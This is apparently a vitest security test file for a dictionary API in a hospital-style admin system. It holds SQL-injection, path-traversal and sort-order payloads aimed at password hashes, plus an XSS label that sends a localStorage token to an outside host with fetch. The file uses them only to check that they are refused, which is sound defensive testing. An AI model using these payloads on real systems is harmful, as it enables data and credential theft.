import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, DIALECTS, type TestApp } from './harness.js';
import { signedGet, signHeaders, withQuery } from './signed.js';

const XSS_LABEL = `<img src=x onerror=fetch('//x/'+localStorage.token)>`;

/** SQL-01 payloads of the security catalogue, as table-dictionary codes. */
const SQL01 = [
  'sys_user,username,password',
  'sys_user,username,password_hash',
  'mysql.user,user,host,1<>(select user())',
  'sys_user ,username,password',
  '(sys_user),username,password',
  'sys_user,realname,id,status=0 or 1=1',
  "sys_user,realname,id,id='x' or substr(password,1,1)='a'",
  "sys_user,realname,id,username='a' or 1=1",
  'sys_user,realname,id,1=1',
  'information_schema.tables,table_name,table_schema',
];

/** Nothing secret may come back: no hash, no database error text, no stack (messages may echo the input). */
function expectNothingLeaked(body: string) {
  expect(body).not.toMatch(/\$argon2|SQLITE_|syntax error|relation "|no such (table|column)|at .*\.[tj]s:\d/i);
  expect(body).not.toContain('Demo@2026');
}

describe.each(DIALECTS)('dictionaries on $name', ({ url }) => {
  let t: TestApp;
  let admin: string;
  let lina: string;
  beforeAll(async () => {
    t = await createTestApp(url);
    admin = await t.login('admin');
    lina = await t.login('lina');
  });
  afterAll(async () => t?.close());

  describe('reads', () => {
    it('gives a plain dictionary in sort order and a table dictionary through the allow-list', async () => {
      const sex = (await signedGet(t, lina, '/sys/dict/getDictItems/sex')).json();
      expect(sex).toMatchObject({ success: true });
      expect(sex.result).toEqual([
        { value: '1', text: '男', title: '男', label: '男' },
        { value: '2', text: '女', title: '女', label: '女' },
      ]);
      // Users as the caller may see them: the administrator sees everyone (the nurse's scope: hardening-personal-data).
      const users = (await signedGet(t, admin, '/sys/dict/getDictItems/sys_user,realname,username')).json();
      expect(users.result).toContainEqual({ value: 'admin', text: '管理员', title: '管理员', label: '管理员' });
      expect(users.result.length).toBeGreaterThan(50);
      const filtered = (await signedGet(t, lina, "/sys/dict/getDictItems/sys_user,realname,username,username='lina'")).json();
      expect(filtered.result).toEqual([{ value: 'lina', text: '李娜', title: '李娜', label: '李娜' }]);
      const unknown = (await signedGet(t, lina, '/sys/dict/getDictItems/no_such_dict')).json();
      expect(unknown).toMatchObject({ success: true, result: [] });
    });

    it('searches loadDict by keyword, as a bound LIKE, with an optional order annotation', async () => {
      const plain = (await signedGet(t, lina, '/sys/dict/loadDict/sex', { keyword: '女' })).json();
      expect(plain.result.map((i: { value: string }) => i.value)).toEqual(['2']);
      const adm = (await signedGet(t, admin, '/sys/dict/loadDict/sys_user,realname,username', { keyword: 'adm', pageSize: 10 })).json();
      expect(adm.result.map((i: { value: string }) => i.value)).toEqual(['admin']);
      const list = (await signedGet(t, admin, '/sys/dict/loadDict/sys_user,realname,username', { keyword: 'admin,lina' })).json();
      expect(list.result.map((i: { value: string }) => i.value).sort()).toEqual(['admin', 'lina']);
      const paged = (await signedGet(t, lina, '/sys/dict/loadDict/sys_user,realname,username', { keyword: '', pageSize: 3 })).json();
      expect(paged.result).toHaveLength(3);
      const ordered = (await signedGet(t, lina, '/sys/dict/loadDict/sex', { keyword: '[orderby:value,desc]' })).json();
      expect(ordered.result.map((i: { value: string }) => i.value)).toEqual(['2', '1']);
    });

    it('treats SQL-02 keywords as text: quotes find nothing, wildcards are literal, order tricks are refused', async () => {
      const dict = '/sys/dict/loadDict/sys_user,realname,username';
      const quoted = await signedGet(t, lina, dict, { keyword: "a' or '1'='1" });
      expect(quoted.statusCode).toBe(200);
      expect(quoted.json().result).toEqual([]);
      const wildcard = await signedGet(t, lina, dict, { keyword: '%' });
      expect(wildcard.json().result).toEqual([]);
      const underscore = await signedGet(t, lina, dict, { keyword: '_' });
      expect(underscore.json().result).toEqual([]);
      for (const keyword of ['x[orderby:(case when (select 1)=1 then id else create_time end),desc]', 'x[orderby:password,asc]', 'x[orderby:text,desc;drop]']) {
        for (const path of [dict, '/sys/dict/loadDictOrderByValue/sys_user,realname,username']) {
          const res = await signedGet(t, lina, path, { keyword });
          if (path.includes('OrderByValue')) {
            // The keyword of loadDictOrderByValue is only ever a list of values to match exactly.
            expect(res.statusCode).toBe(200);
            expect(res.json().result.some((i: { value: string }) => keyword.includes(i.value) && i.value.length > 3)).toBe(false);
          } else {
            expect(res.statusCode).toBe(400);
          }
          expectNothingLeaked(res.body);
        }
      }
    });

    it('puts the current values first in loadDictOrderByValue', async () => {
      const res = (await signedGet(t, admin, '/sys/dict/loadDictOrderByValue/sys_user,realname,username', { keyword: 'zhangwei,lina', pageSize: 2 })).json();
      expect(res.result.slice(0, 2).map((i: { value: string }) => i.value).sort()).toEqual(['lina', 'zhangwei']);
      expect(res.result.length).toBeLessThanOrEqual(4);
      expect(new Set(res.result.map((i: { value: string }) => i.value)).size).toBe(res.result.length);
    });

    it('translates keys with loadDictItem, dropping or echoing unknown ones', async () => {
      const path = '/sys/dict/loadDictItem/sys_user,realname,username';
      expect((await signedGet(t, admin, path, { key: 'admin,lina,ghost' })).json().result).toEqual(['管理员', '李娜']);
      expect((await signedGet(t, admin, path, { key: 'admin,ghost', delNotExist: 'false' })).json().result).toEqual(['管理员', 'ghost']);
      const plain = await signedGet(t, lina, '/sys/dict/loadDictItem/sex', { key: '1' });
      expect(plain.statusCode).toBe(400);
      expect(plain.json().message).toBe('字典Code格式不正确！');
    });

    it('refuses every SQL-01 table-dictionary payload on every table-dictionary route with 400', async () => {
      for (const code of SQL01) {
        const routes: Array<[string, Record<string, string>]> = [
          [`/sys/dict/getDictItems/${code}`, {}],
          [`/sys/dict/loadDict/${code}`, { keyword: 'a' }],
          [`/sys/dict/loadDictOrderByValue/${code}`, { keyword: 'a' }],
          [`/sys/dict/loadDictItem/${code}`, { key: 'admin' }],
        ];
        for (const [path, query] of routes) {
          const res = await signedGet(t, admin, path, query);
          expect(res.statusCode, `${path}`).toBe(400);
          // Refused by the allow-list, not by the signature check.
          expect(res.json().message).not.toMatch(/Sign|签名/);
          expectNothingLeaked(res.body);
        }
        const text = await signedGet(t, admin, `/sys/dict/getDictText/${code}/admin`);
        expect(text.statusCode).toBe(400);
        expectNothingLeaked(text.body);
      }
    });

    it('answers 401 to a .js suffix without a token and 400 to path tricks (AUTH-01/02)', async () => {
      const js = await t.call({ method: 'GET', url: '/sys/dict/getDictItems/sys_user,username,password.js' });
      expect(js.statusCode).toBe(401);
      expectNothingLeaked(js.body);
      const old = await t.call({ method: 'GET', url: "/sys/ng-alain/getDictItemsByTable/'%20from%20sys_user/*,%20'/x.js" });
      expect([400, 401, 404]).toContain(old.statusCode);
      for (const path of ['/sys/dict/getDictItems;/sex', '//sys/dict/getDictItems/sex', '/sys/dict/getDictItems/..%2fsex', '/sys/dict/getDictItems/sex%00']) {
        const res = await t.call({ method: 'GET', url: path, token: admin, headers: signHeaders(t, path) });
        expect(res.statusCode, path).toBe(400);
      }
      // The injector resolves `%2e%2e` like a browser would, so this one reaches no route at all.
      const dots = await t.call({ method: 'GET', url: '/sys/dict/getDictItems/%2e%2e/sex', token: admin });
      expect([400, 404]).toContain(dots.statusCode);
    });

    it('loads tree data from declared tree tables only, one level at a time', async () => {
      const base = { tableName: 'sys_category', pidField: 'pid', text: 'name', code: 'id', hasChildField: 'has_child' };
      const roots = (await signedGet(t, lina, '/sys/dict/loadTreeData', { ...base, pid: '0' })).json();
      expect(roots.success).toBe(true);
      expect(roots.result.map((n: { title: string }) => n.title).sort()).toEqual(['商品分类', '疾病分类']);
      const disease = roots.result.find((n: { title: string }) => n.title === '疾病分类');
      expect(disease).toMatchObject({ leaf: false, parentId: '0', icon: null, children: null });
      expect(disease.value).toBe(disease.key);
      const kids = (await signedGet(t, lina, '/sys/dict/loadTreeData', { ...base, pid: disease.key })).json();
      expect(kids.result.map((n: { title: string }) => n.title).sort()).toEqual(['传染病', '慢性病']);
      const like = (await signedGet(t, lina, '/sys/dict/loadTreeData', { ...base, pid: disease.key, condition: JSON.stringify({ name: '慢%' }) })).json();
      expect(like.result.map((n: { title: string }) => n.title)).toEqual(['慢性病']);
      // Without a has-child column, leaves are found from the rows; other tenants' rows stay hidden.
      const departs = (await signedGet(t, admin, '/sys/dict/loadTreeData', { tableName: 'sys_depart', pidField: 'parent_id', text: 'depart_name', code: 'id', pid: '' })).json();
      expect(departs.result.map((n: { title: string }) => n.title)).toEqual(['华康医疗集团']);
      expect(departs.result[0].leaf).toBe(false);
      const path = '/sys/dict/loadTreeData';
      const q = { tableName: 'sys_depart', pidField: 'parent_id', text: 'depart_name', code: 'id', pid: '' };
      const other = await t.call({ method: 'GET', url: withQuery(path, q), token: admin, headers: { ...signHeaders(t, path, q), 'tenant-id': '2' } });
      expect(other.json().result.map((n: { title: string }) => n.title)).toEqual(['仁和健康管理中心']);
      // Deleted rows stay out, whatever the type of the table's del_flag column.
      const menuQuery = { tableName: 'sys_permission', pidField: 'parent_id', text: 'name', code: 'id', pid: '' };
      const menus = (await signedGet(t, admin, path, menuQuery)).json().result.map((n: { title: string }) => n.title);
      expect(menus).toContain('系统管理');
      await t.ctx.db.kysely.updateTable('sysPermission').set({ delFlag: 1 }).where('name', '=', '首页').execute();
      const after = (await signedGet(t, admin, path, menuQuery)).json().result.map((n: { title: string }) => n.title);
      expect(after).not.toContain('首页');
      expect(after).toContain('系统管理');
      await t.ctx.db.kysely.updateTable('sysPermission').set({ delFlag: 0 }).where('name', '=', '首页').execute();
    });

    it('refuses SQL-03 tree-data payloads with 400 and leaks nothing', async () => {
      const base = { tableName: 'sys_category', pidField: 'pid', text: 'name', code: 'id', pid: '0' };
      const payloads: Array<Record<string, string>> = [
        { ...base, tableName: 'sys_user t' },
        { ...base, tableName: 'sys_user', text: 'realname', code: 'id', pidField: 'org_code' },
        { ...base, text: 'password,id' },
        { ...base, text: 'name', code: 'id) union select password_hash from sys_user --' },
        { ...base, pidField: 'code' },
        { ...base, hasChildField: 'has_child or 1=1' },
        { ...base, condition: JSON.stringify({ _tableFilterSql: '1=2 union select password_hash,username,id,id from sys_user' }) },
        { ...base, condition: JSON.stringify({ "x' or 1=1 -- ": '1' }) },
        { ...base, condition: JSON.stringify({ password_hash: '%' }) },
        { ...base, condition: '[1,2]' },
        { ...base, condition: 'not json' },
        { ...base, condition: JSON.stringify({ name: { $ne: 1 } }) },
      ];
      for (const query of payloads) {
        const res = await signedGet(t, admin, '/sys/dict/loadTreeData', query);
        expect(res.statusCode, JSON.stringify(query)).toBe(400);
        expect(res.json().message).not.toMatch(/Sign|签名/);
        expectNothingLeaked(res.body);
      }
      const quoted = await signedGet(t, admin, '/sys/dict/loadTreeData', { ...base, condition: JSON.stringify({ name: "x' or '1'='1" }) });
      expect(quoted.statusCode).toBe(200);
      expect(quoted.json().result).toEqual([]);
    });

    it('accepts a valid signature and refuses a missing or bad one and stale or future timestamps', async () => {
      const path = '/sys/dict/getDictItems/sex';
      expect((await t.call({ method: 'GET', url: path, token: lina, headers: signHeaders(t, path, {}, Date.now() - 4 * 60_000) })).statusCode).toBe(200);
      const unsigned = await t.call({ method: 'GET', url: path, token: lina });
      expect(unsigned.statusCode).toBe(400);
      const bad = await t.call({ method: 'GET', url: path, token: lina, headers: { 'x-sign': 'E19D6243CB1945AB4F7202A1B00F77D6', 'x-timestamp': String(Date.now()) } });
      expect(bad.statusCode).toBe(400);
      expect(bad.json()).toMatchObject({ success: false, message: 'Sign签名校验失败！' });
      // A sign for other parameters does not fit this request.
      const other = await t.call({ method: 'GET', url: '/sys/dict/loadDict/sex?keyword=%E7%94%B7', token: lina, headers: signHeaders(t, '/sys/dict/loadDict/sex', { keyword: '女' }) });
      expect(other.statusCode).toBe(400);
      for (const at of [Date.now() - 6 * 60_000, Date.now() + 6 * 60_000]) {
        const res = await t.call({ method: 'GET', url: path, token: lina, headers: signHeaders(t, path, {}, at) });
        expect(res.statusCode).toBe(400);
        expect(res.json().message).toContain('时效性');
      }
      // The sign never stands in for a session.
      expect((await t.call({ method: 'GET', url: path, headers: signHeaders(t, path) })).statusCode).toBe(401);
    });

    it('refuses a foreign tenant header (TOK-07)', async () => {
      const path = '/sys/dict/getDictItems/sys_depart,depart_name,id';
      const res = await t.call({ method: 'GET', url: path, token: lina, headers: { ...signHeaders(t, path), 'tenant-id': '2' } });
      expect(res.statusCode).toBe(403);
      expect(res.body).not.toContain('仁和');
      const own = (await signedGet(t, lina, path)).json();
      expect(own.result.map((i: { text: string }) => i.text)).not.toContain('仁和健康管理中心');
    });

    it('gives one text with getDictText and the login dictionary map with queryAllDictItems', async () => {
      // Signed like the other dictionary reads (issue 11 §5); users only as the caller may see them.
      expect((await signedGet(t, lina, '/sys/dict/getDictText/sex/2')).json()).toMatchObject({ success: true, result: '女' });
      expect((await signedGet(t, admin, '/sys/dict/getDictText/sys_user,realname,username/admin')).json().result).toBe('管理员');
      expect((await signedGet(t, lina, '/sys/dict/getDictText/sys_user,realname,username/admin')).json().result).toBeNull();
      expect((await signedGet(t, lina, '/sys/dict/getDictText/sex/9')).json().result).toBeNull();
      expect((await t.call({ method: 'GET', url: '/sys/dict/getDictText/sex/2', token: lina })).statusCode).toBe(400);
      const all = (await t.call({ method: 'GET', url: '/sys/dict/queryAllDictItems', token: lina })).json();
      expect(all).toMatchObject({ success: true, code: 200 });
      const login = (await t.call({ method: 'POST', url: '/sys/login', payload: { username: 'zhangwei', password: 'Demo@2026' } })).json();
      expect(all.result).toEqual(login.result.sysAllDictItems);
      expect(all.result.menu_type.map((i: { value: string }) => i.value)).toEqual(['0', '1', '2']);
    });

    it('pages dictionary items with getDictItemsPageList', async () => {
      const second = (await t.call({ method: 'GET', url: '/sys/dict/getDictItemsPageList?dictCode=sex&pageNo=2&pageSize=1', token: lina })).json();
      expect(second.result).toMatchObject({ total: 2, current: 2, size: 1, pages: 2, records: [{ value: '2', text: '女' }] });
      const kw = (await t.call({ method: 'GET', url: `/sys/dict/getDictItemsPageList?dictCode=sex&keyword=${encodeURIComponent('男')}`, token: lina })).json();
      expect(kw.result.records).toEqual([{ value: '1', text: '男' }]);
      const table = (await t.call({ method: 'GET', url: '/sys/dict/getDictItemsPageList?dictCode=sys_user,realname,username&pageNo=1&pageSize=5', token: admin })).json();
      expect(table.result.records).toHaveLength(5);
      expect(table.result.total).toBeGreaterThan(50);
      const bad = await t.call({ method: 'GET', url: '/sys/dict/getDictItemsPageList?dictCode=sys_user,username,password_hash', token: lina });
      expect(bad.statusCode).toBe(400);
      expectNothingLeaked(bad.body);
    });

    it('answers refleshCache with code 0 and clearCache with success, and never serves stale items', async () => {
      for (const method of ['GET', 'POST'] as const) {
        const res = (await t.call({ method, url: '/sys/dict/refleshCache', token: lina })).json();
        expect(res).toMatchObject({ success: true, code: 0, result: null });
      }
      expect((await t.call({ method: 'GET', url: '/api/yjy/common/clearCache', token: lina })).json()).toMatchObject({ success: true });
      expect((await t.call({ method: 'GET', url: '/api/yjy/common/clearCache' })).statusCode).toBe(401);
      const db = t.ctx.db.kysely;
      const dict = await db.selectFrom('sysDict').select('id').where('dictCode', '=', 'yn').executeTakeFirstOrThrow();
      await db.updateTable('sysDictItem').set({ itemText: '是的' }).where('dictId', '=', dict.id).where('itemValue', '=', 'Y').execute();
      const after = (await signedGet(t, lina, '/sys/dict/getDictItems/yn')).json();
      expect(after.result[0]).toMatchObject({ value: 'Y', text: '是的' });
    });
  });

  describe('administration', () => {
    it('lists, adds, edits and deletes a dictionary with its items', async () => {
      const add = (await t.call({ method: 'POST', url: '/sys/dict/add', token: admin, payload: { dictName: '随访方式', dictCode: 'follow_way', description: '随访' } })).json();
      expect(add).toMatchObject({ success: true, message: '添加成功！' });
      const list = (await t.call({ method: 'GET', url: '/sys/dict/list?dictCode=follow_way', token: lina })).json();
      expect(list.result).toMatchObject({ total: 1, current: 1 });
      const dict = list.result.records[0];
      expect(dict).toMatchObject({ dictName: '随访方式', dictCode: 'follow_way', type: 0, createBy: 'admin' });
      const like = (await t.call({ method: 'GET', url: `/sys/dict/list?dictName=${encodeURIComponent('*随访*')}`, token: lina })).json();
      expect(like.result.records.map((d: { dictCode: string }) => d.dictCode)).toContain('follow_way');
      const tree = (await t.call({ method: 'GET', url: `/sys/dict/treeList?dictName=${encodeURIComponent('随访')}`, token: lina })).json();
      expect(tree.result).toContainEqual(expect.objectContaining({ key: dict.id, title: '随访方式', dictCode: 'follow_way' }));

      const dup = (await t.call({ method: 'POST', url: '/sys/dict/add', token: admin, payload: { dictName: 'x', dictCode: 'follow_way' } })).json();
      expect(dup).toMatchObject({ success: false, code: 500 });
      const comma = await t.call({ method: 'POST', url: '/sys/dict/add', token: admin, payload: { dictName: 'x', dictCode: 'sys_user,username,id' } });
      expect(comma.statusCode).toBe(400);
      expect(comma.json().message).toContain('dictCode');

      for (const [value, text, sortOrder] of [['phone', '电话', 2], ['visit', '上门', 1], ['wechat', '微信', 3]] as const) {
        const r = (await t.call({ method: 'POST', url: '/sys/dictItem/add', token: admin, payload: { dictId: dict.id, itemValue: value, itemText: text, sortOrder } })).json();
        expect(r.success).toBe(true);
      }
      const items = (await t.call({ method: 'GET', url: `/sys/dictItem/list?dictId=${dict.id}`, token: lina })).json();
      expect(items.result.records.map((i: { itemValue: string }) => i.itemValue)).toEqual(['visit', 'phone', 'wechat']);
      expect((await signedGet(t, lina, '/sys/dict/getDictItems/follow_way')).json().result.map((i: { text: string }) => i.text)).toEqual(['上门', '电话', '微信']);

      const check = (v: string, id = '') =>
        t.call({ method: 'GET', url: `/sys/dictItem/dictItemCheck?dictId=${dict.id}&itemValue=${v}${id ? `&id=${id}` : ''}`, token: lina });
      expect((await check('phone')).json()).toMatchObject({ success: false, message: '该值不可用，系统中已存在！' });
      expect((await check('email')).json()).toMatchObject({ success: true, message: '该值可用！' });
      const phone = items.result.records.find((i: { itemValue: string }) => i.itemValue === 'phone');
      expect((await check('phone', phone.id)).json().success).toBe(true);
      const dupItem = (await t.call({ method: 'POST', url: '/sys/dictItem/add', token: admin, payload: { dictId: dict.id, itemValue: 'phone', itemText: '重复' } })).json();
      expect(dupItem.success).toBe(false);

      const edit = (await t.call({ method: 'PUT', url: '/sys/dictItem/edit', token: admin, payload: { id: phone.id, itemText: '电话随访', sortOrder: 0, status: 0 } })).json();
      expect(edit).toMatchObject({ success: true, message: '编辑成功!' });
      expect((await signedGet(t, lina, '/sys/dict/getDictText/follow_way/phone')).json().result).toBe('电话随访');
      const all = (await t.call({ method: 'GET', url: '/sys/dict/queryAllDictItems', token: lina })).json().result;
      expect(all.follow_way.map((i: { value: string }) => i.value)).toEqual(['visit', 'wechat']);

      const dictEdit = (await t.call({ method: 'POST', url: '/sys/dict/edit', token: admin, payload: { id: dict.id, dictName: '随访渠道', dictCode: 'follow_channel', type: 0 } })).json();
      expect(dictEdit.success).toBe(true);
      expect((await signedGet(t, lina, '/sys/dict/getDictItems/follow_channel')).json().result).toHaveLength(3);
      const clash = (await t.call({ method: 'PUT', url: '/sys/dict/edit', token: admin, payload: { id: dict.id, dictName: 'x', dictCode: 'sex' } })).json();
      expect(clash.success).toBe(false);

      const visit = items.result.records.find((i: { itemValue: string }) => i.itemValue === 'visit');
      const wechat = items.result.records.find((i: { itemValue: string }) => i.itemValue === 'wechat');
      expect((await t.call({ method: 'DELETE', url: `/sys/dictItem/delete?id=${visit.id}`, token: admin })).json().message).toBe('删除成功!');
      expect((await t.call({ method: 'DELETE', url: `/sys/dictItem/deleteBatch?ids=${phone.id},${wechat.id},`, token: admin })).json().success).toBe(true);
      expect((await signedGet(t, lina, '/sys/dict/getDictItems/follow_channel')).json().result).toEqual([]);

      expect((await t.call({ method: 'DELETE', url: `/sys/dict/delete?id=${dict.id}`, token: admin })).json().message).toBe('删除成功!');
      expect((await t.call({ method: 'GET', url: '/sys/dict/list?dictCode=follow_channel', token: lina })).json().result.total).toBe(0);
      expect((await t.call({ method: 'DELETE', url: `/sys/dict/delete?id=${dict.id}`, token: admin })).statusCode).toBe(404);
    });

    it('deletes dictionaries in a batch', async () => {
      const ids: string[] = [];
      for (const code of ['batch_a', 'batch_b']) {
        await t.call({ method: 'POST', url: '/sys/dict/add', token: admin, payload: { dictName: code, dictCode: code } });
        ids.push((await t.call({ method: 'GET', url: `/sys/dict/list?dictCode=${code}`, token: admin })).json().result.records[0].id);
      }
      const res = (await t.call({ method: 'DELETE', url: `/sys/dict/deleteBatch?ids=${ids.join(',')},`, token: admin })).json();
      expect(res).toMatchObject({ success: true, message: '批量删除成功!' });
      expect((await t.call({ method: 'GET', url: '/sys/dict/list?dictCode=batch_a,batch_b', token: admin })).json().result.total).toBe(0);
    });

    it('keeps a label with markup as plain text end to end (XSS-04)', async () => {
      const dict = (await t.call({ method: 'GET', url: '/sys/dict/list?dictCode=yn', token: admin })).json().result.records[0];
      const add = (await t.call({ method: 'POST', url: '/sys/dictItem/add', token: admin, payload: { dictId: dict.id, itemValue: 'X', itemText: XSS_LABEL, sortOrder: 9 } })).json();
      expect(add.success).toBe(true);
      const res = await signedGet(t, lina, '/sys/dict/getDictItems/yn');
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.json().result).toContainEqual({ value: 'X', text: XSS_LABEL, title: XSS_LABEL, label: XSS_LABEL });
      const list = (await t.call({ method: 'GET', url: `/sys/dictItem/list?dictId=${dict.id}&itemValue=X`, token: admin })).json();
      expect(list.result.records[0].itemText).toBe(XSS_LABEL);
      expect((await signedGet(t, lina, '/sys/dict/getDictText/yn/X')).json().result).toBe(XSS_LABEL);
    });

    it('refuses writes without the dictionary codes (510) and changes nothing', async () => {
      const dict = (await t.call({ method: 'GET', url: '/sys/dict/list?dictCode=sex', token: lina })).json().result.records[0];
      const item = (await t.call({ method: 'GET', url: `/sys/dictItem/list?dictId=${dict.id}`, token: lina })).json().result.records[0];
      const attempts = [
        { method: 'POST' as const, url: '/sys/dict/add', payload: { dictName: 'x', dictCode: 'nurse_dict' } },
        { method: 'PUT' as const, url: '/sys/dict/edit', payload: { id: dict.id, dictName: '改', dictCode: 'sex' } },
        { method: 'POST' as const, url: '/sys/dict/edit', payload: { id: dict.id, dictName: '改', dictCode: 'sex' } },
        { method: 'DELETE' as const, url: `/sys/dict/delete?id=${dict.id}` },
        { method: 'DELETE' as const, url: `/sys/dict/deleteBatch?ids=${dict.id}` },
        { method: 'POST' as const, url: '/sys/dictItem/add', payload: { dictId: dict.id, itemValue: '3', itemText: '未知' } },
        { method: 'PUT' as const, url: '/sys/dictItem/edit', payload: { id: item.id, itemText: '改' } },
        { method: 'DELETE' as const, url: `/sys/dictItem/delete?id=${item.id}` },
        { method: 'DELETE' as const, url: `/sys/dictItem/deleteBatch?ids=${item.id}` },
      ];
      for (const a of attempts) {
        const res = await t.call({ ...a, token: lina });
        expect(res.json(), a.url).toMatchObject({ success: false, code: 510 });
      }
      const sex = (await signedGet(t, lina, '/sys/dict/getDictItems/sex')).json().result;
      expect(sex.map((i: { text: string }) => i.text)).toEqual(['男', '女']);
      expect((await t.call({ method: 'GET', url: '/sys/dict/list?dictCode=nurse_dict', token: admin })).json().result.total).toBe(0);
    });

    it('refuses SQL-05/06 sort and advanced-query tricks on the lists', async () => {
      const attacks = [
        '/sys/dict/list?column=extractvalue(1,concat(0x7e,user()))',
        '/sys/dict/list?column=dictName&order=desc,(case when 1=1 then id else dict_code end)',
        `/sys/dict/list?superQueryParams=${encodeURIComponent(JSON.stringify([{ field: 'id) or (1=1', rule: 'eq', val: '1' }]))}`,
        `/sys/dictItem/list?superQueryParams=${encodeURIComponent(JSON.stringify([{ field: 'itemText', rule: 'union', val: '1' }]))}`,
        '/sys/dict/list?superQueryParams=%5B%5D&superQueryMatchType=or%201=1',
        '/sys/dictItem/list?column=password_hash',
      ];
      for (const u of attacks) {
        const res = await t.call({ method: 'GET', url: u, token: admin });
        expect(res.statusCode, u).toBe(400);
        expectNothingLeaked(res.body);
      }
      const sq = encodeURIComponent(JSON.stringify([{ field: 'dictCode', rule: 'eq', val: "' or 0<>(select count(*) from sys_user) or dict_code<>'" }]));
      const bound = (await t.call({ method: 'GET', url: `/sys/dict/list?superQueryParams=${sq}&superQueryMatchType=or`, token: admin })).json();
      expect(bound.result.total).toBe(0);
    });
  });
});
